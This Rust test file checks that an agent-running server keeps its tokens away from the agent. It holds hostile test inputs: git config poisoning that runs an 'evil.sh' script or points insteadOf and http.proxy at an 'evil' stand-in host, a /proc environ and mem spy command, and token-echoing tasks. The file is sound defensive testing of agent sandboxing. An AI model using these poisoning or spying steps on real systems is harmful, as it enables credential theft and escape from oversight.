//! What an agent must not get at, whatever it tries.

use crate::support::github::TOKEN;
use crate::support::{GitHub, Lab, Repo, Server, events};
use serde_json::{Value, json};
use std::fs;
use std::process::Command;

/// Every file below `directory`, as text.
fn everything_in(directory: &std::path::Path) -> Vec<(String, String)> {
    let entries = fs::read_dir(directory).into_iter().flatten().flatten().map(|entry| entry.path());
    entries
        .flat_map(|path| match path.is_dir() && !path.is_symlink() {
            true => everything_in(&path),
            false => vec![(
                path.display().to_string(),
                String::from_utf8_lossy(&fs::read(&path).unwrap_or_default()).into_owned(),
            )],
        })
        .collect()
}

#[test]
fn the_agents_environment_holds_nothing_that_can_push() {
    let lab = Lab::new();
    let github = GitHub::start(&lab.path("github"));
    github.repository("me/project");
    let lab = lab
        .with_all(github.variables_with_token())
        .with("AGENTICORE_API_KEYS", "an-api-key")
        .with("SSH_AUTH_SOCK", "/somewhere")
        .with("ANTHROPIC_API_KEY", "sk-ant-made-up-key");
    lab.profile("pusher", "github_token: true");
    let server = lab.serve();
    let dump = lab.path("dump.json");
    let dumped = |profile: &str| {
        let body = json!({"task": format!("[[dump {}]]", dump.display()), "profile": profile});
        let key = [("x-api-key", "an-api-key")];
        let id = ask(&server, "POST", "/jobs", Some(&body), &key)["job"]["id"].as_str().unwrap().to_owned();
        crate::support::eventually("it ends", || {
            (ask(&server, "GET", &format!("/jobs/{id}"), None, &key)["job"]["status"] == "succeeded").then_some(())
        });
        let dump: Value = serde_json::from_slice(&fs::read(&dump).unwrap()).unwrap();
        dump
    };
    let plain = dumped("coding");
    let environment = plain["environment"].to_string();
    for secret in [TOKEN, "an-api-key", "SSH_AUTH_SOCK", "ASKPASS"] {
        assert!(!environment.contains(secret), "{environment}");
    }
    assert_eq!(plain["environment"]["ANTHROPIC_API_KEY"], "sk-ant-made-up-key");
    let home = plain["environment"]["HOME"].as_str().unwrap();
    assert!(home.starts_with(lab.path("tmp").to_str().unwrap()) && !std::path::Path::new(home).exists());
    assert_eq!(dumped("pusher")["environment"]["GITHUB_TOKEN"], TOKEN);
    assert!(!server.log().contains(TOKEN));
    // Its git logs in with it, and without it says what it lacks.
    for (profile, expected) in [("pusher", "reached"), ("coding", "terminal prompts disabled")] {
        let said = lab.path("said");
        let look =
            format!("(git ls-remote {} && echo reached) > {} 2>&1", github.repo_url("me/project"), said.display());
        let body = json!({"task": format!("[[bash {look}; true]]"), "profile": profile});
        let key = [("x-api-key", "an-api-key")];
        let id = ask(&server, "POST", "/jobs", Some(&body), &key)["job"]["id"].as_str().unwrap().to_owned();
        crate::support::eventually("it ends", || {
            (ask(&server, "GET", &format!("/jobs/{id}"), None, &key)["job"]["status"] == "succeeded").then_some(())
        });
        let said = fs::read_to_string(&said).unwrap();
        assert!(said.contains(expected) && !said.contains(TOKEN), "{profile}: {said}");
    }
    server.stop();
}

fn ask(server: &Server, method: &str, path: &str, body: Option<&Value>, headers: &[(&str, &str)]) -> Value {
    let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).proxy(None).build().into();
    let mut request = ureq::http::Request::builder().method(method).uri(format!("{}{path}", server.url));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let body = body.map(|body| body.to_string().into_bytes()).unwrap_or_default();
    let text = agent.run(request.body(body).unwrap()).unwrap().body_mut().read_to_string().unwrap();
    serde_json::from_str(&text).unwrap()
}

#[test]
fn a_poisoned_cache_gets_no_token_and_runs_nothing() {
    let lab = Lab::new();
    let github = GitHub::start(&lab.path("github"));
    let repo = github.repository("me/project");
    let lab = lab.with_all(github.variables_with_token());
    let (ran, evil) =
        (lab.path("ran"), crate::support::http::StandIn::start(|_| crate::support::http::Told::json(401, json!({}))));
    let script = lab.path("evil.sh");
    fs::write(&script, format!("#!/bin/sh\nid >> {}\nenv >> {0}\ncat >> {0}\n", ran.display())).unwrap();
    Command::new("chmod").arg("755").arg(&script).status().unwrap();
    let script = script.display().to_string();
    let server = lab.serve();
    let url = github.repo_url("me/project");
    let poison = [
        format!("git config core.fsmonitor {script}"),
        format!("git config core.hooksPath {}", lab.path("hooks").display()),
        format!("git config credential.helper {script}"),
        format!("git config core.askPass {script}"),
        format!("git config core.sshCommand {script}"),
        format!("git config core.gitProxy {script}"),
        format!("git config gpg.program {script}"),
        "git config commit.gpgSign true".into(),
        format!("git config filter.x.clean {script}"),
        format!("git config filter.x.smudge {script}"),
        "git config filter.x.required true".into(),
        format!("git config url.{}/.insteadOf {}/", evil.url(), github.url()),
        format!("git config remote.origin.receivepack {script}"),
        format!("git config remote.origin.uploadpack {script}"),
        format!("git config http.proxy {}", evil.url()),
        format!("git config alias.status !{script}"),
    ];
    let hooks = format!(
        "mkdir -p {0} && for h in pre-commit commit-msg post-commit pre-push post-checkout reference-transaction post-index-change; do cp {script} {0}/$h; cp {script} $(git rev-parse --git-common-dir)/hooks/$h 2>/dev/null || (mkdir -p $(git rev-parse --git-common-dir)/hooks && cp {script} $(git rev-parse --git-common-dir)/hooks/$h); done",
        lab.path("hooks").display()
    );
    let steps: String = poison.iter().chain([&hooks]).map(|command| format!("[[bash {command}]] ")).collect();
    let first = server.run(
        json!({"task": format!("{steps} [[write .gitattributes *.x filter=x]] [[write c.x 1]] [[write a.txt 1]]"), "repo_url": url}),
    );
    assert_eq!(first["status"], "succeeded", "{first:#}");
    assert!(first["pr_url"].is_string(), "{first:#}");
    let second = server.run(json!({"task": "[[write b.txt 2]]", "repo_url": url}));
    assert_eq!((&second["status"], second["pr_url"].is_string()), (&json!("succeeded"), true), "{second:#}");
    for job in [&first, &second] {
        let branch = job["branch"].as_str().unwrap();
        let file = if job == &first { "a.txt" } else { "b.txt" };
        assert!(repo.file(branch, file).is_some());
    }
    // The agent's own git may run what the agent configured; the runner's may not.
    let ran = fs::read_to_string(&ran).unwrap_or_default();
    assert!(
        !ran.contains("AGENTICORE_ASKPASS_FD") && !ran.contains(TOKEN) && !ran.contains("GIT_CONFIG_GLOBAL=/dev/null"),
        "{ran}"
    );
    github.assert_content();
    server.stop();
    for directory in ["repos", "jobs", "tmp", "worktrees", "home"] {
        for (path, text) in everything_in(&lab.path(directory)) {
            assert!(!text.contains(TOKEN), "the token is in {path}");
        }
    }
}

#[test]
fn what_an_agent_says_is_cleaned_of_secrets() {
    let lab = Lab::new();
    let github = GitHub::start(&lab.path("github"));
    github.repository("me/project");
    let lab = lab.with_all(github.variables_with_token());
    lab.profile("pusher", "github_token: true");
    let server = lab.serve();
    let task = "[[bash echo token $GITHUB_TOKEN]] [[write a.txt 1]] [[say all done]]";
    let job = server.run(json!({"task": task, "profile": "pusher", "repo_url": github.repo_url("me/project")}));
    assert_eq!(job["status"], "succeeded", "{job:#}");
    let events = json!(events(&lab, job["id"].as_str().unwrap())).to_string();
    assert!(events.contains("token ********") && !events.contains(TOKEN), "{events}");
    server.stop();
}

#[test]
fn wrong_and_missing_credentials_each_get_their_own_sentence() {
    let lab = Lab::new();
    let github = GitHub::start(&lab.path("github"));
    github.repository("me/project");
    let request = json!({"task": "t", "repo_url": github.repo_url("me/project")});
    let lab = lab.with_all(github.variables());
    let server = lab.serve();
    let job = server.run(request.clone());
    assert!(job["error"].as_str().unwrap().contains("wants credentials, and the server has none"), "{job:#}");
    server.stop();
    let lab = lab.with("GITHUB_TOKEN", "ghs_some-wrong-token");
    let server = lab.serve();
    let job = server.run(request);
    let error = job["error"].as_str().unwrap();
    assert!(error.contains("refused the server's credentials") && !error.contains("ghs_some"), "{job:#}");
    server.stop();
    lab.assert_tidy();
}

/// Only where agents do not run as root can the kernel refuse anything to them.
#[test]
fn processes_with_secrets_cannot_be_read_by_the_agent() {
    let lab = Lab::new();
    let as_nobody = Command::new("setpriv").args(["--reuid=65532", "--regid=65532", "--clear-groups", "true"]).status();
    if !as_nobody.is_ok_and(|status| status.success()) {
        assert!(std::env::var_os("CI").is_none(), "CI runs as root, with setpriv");
        eprintln!("SKIPPED processes_with_secrets_cannot_be_read_by_the_agent: needs root and setpriv");
        return;
    }
    let lab = lab.with("GITHUB_TOKEN", "ghs_readable-by-nobody").with("AGENTICORE_ALLOW_LOCAL_REPOS", "true");
    let repo = Repo::with_commit(&lab.path("remote.git"));
    let shared = Command::new("chown").args(["-R", "65532:65532"]).arg(lab.dir.path()).status().unwrap();
    assert!(shared.success());
    // The binaries must be reachable for that user.
    let copies = tempfile::Builder::new().prefix("agenticore-bin").tempdir_in("/var/tmp").unwrap();
    Command::new("chmod").arg("755").arg(copies.path()).status().unwrap();
    let copy = |from: &std::path::Path, name: &str| {
        let to = copies.path().join(name);
        fs::copy(from, &to).unwrap();
        to
    };
    let binary = copy(crate::support::BINARY.as_ref(), "agenticore");
    let agent = copy(&crate::support::scripted_agent(), "scripted-agent");
    let mut command = Command::new("setpriv");
    command.args(["--reuid=65532", "--regid=65532", "--clear-groups"]).arg(binary).arg("serve").env_clear();
    command.envs(&lab.variables).env("AGENTICORE_CLAUDE_BINARY", agent).stdin(std::process::Stdio::null());
    let server = Server::start(command);
    let lock = lab.path("jobs/.lock");
    let spy = format!(
        "for f in environ mem maps; do head -c 1 /proc/$(cat {})/$f >/dev/null && echo $f-was-read; done; id -u; true",
        lock.display()
    );
    let job = server.run(json!({"task": format!("[[bash {spy}]] [[write a.txt 1]]"), "repo_url": repo.url()}));
    assert_eq!((&job["status"], &job["pushed"]), (&json!("succeeded"), &json!(true)), "{job:#}");
    let told = json!(events(&lab, job["id"].as_str().unwrap())).to_string();
    assert!(told.contains("65532") && !told.contains("environ-was-read") && !told.contains("mem-was-read"), "{told}");
    server.stop();
}

/// Also what is a secret only as a part of a setting, or stands in a file that the agent can read.
#[test]
fn parts_of_settings_that_let_somebody_in_are_cleaned_out_too() {
    let lab = Lab::new();
    let (keys, hook) = (lab.path("keys.yml"), "http://127.0.0.1:9/hooks/aB3dE5fG7hI9jK1mN2?sig=0123456789abcdef0123");
    std::fs::write(&keys, "- {name: boss, key: key-in-clear-0001, scopes: [admin]}\n").unwrap();
    let secret = "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIz";
    let lab = lab
        .with("AGENTICORE_API_KEYS_FILE", keys.display().to_string())
        .with("AGENTICORE_API_KEYS", "key-of-this-test")
        .with("AGENTICORE_WEBHOOK_URLS", hook)
        .with("AGENTICORE_WEBHOOK_SECRET", secret)
        .with("AGENTICORE_OTEL_ENABLED", "true")
        .with("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9")
        .with("OTEL_EXPORTER_OTLP_HEADERS", "authorization=Bearer%20collector-token-1,x-team=engineering");
    let server = lab.serve();
    let said = "[[bash echo ${OTEL_EXPORTER_OTLP_HEADERS#*=}]] [[bash cat KEYS]] [[bash echo aB3dE5fG7hI9jK1mN2]] \
                [[bash echo 0123456789abcdef0123]] [[bash echo Bearer collector-token-1 hooks of engineering]]";
    let task = said.replace("KEYS", &keys.display().to_string());
    let key = ("Authorization", "Bearer key-of-this-test");
    let (_, answer) = server.send("/jobs", &[key], &json!({"task": task, "wait": true}).to_string());
    let all = json!(events(&lab, answer["job"]["id"].as_str().unwrap()));
    let results: Vec<&Value> =
        all.as_array().unwrap().iter().filter(|event| event["kind"] == "agent_tool_result").collect();
    let heard = json!(results).to_string();
    for secret in ["collector-token-1", "key-in-clear-0001", "aB3dE5fG7hI9jK1mN2", "0123456789abcdef0123"] {
        assert!(!heard.contains(secret), "{secret}: {heard}");
    }
    assert!(results.len() == 5, "{all:#}");
    assert!(heard.contains("name: boss") && heard.contains("hooks of engineering"), "{heard}");
    server.stop();
}
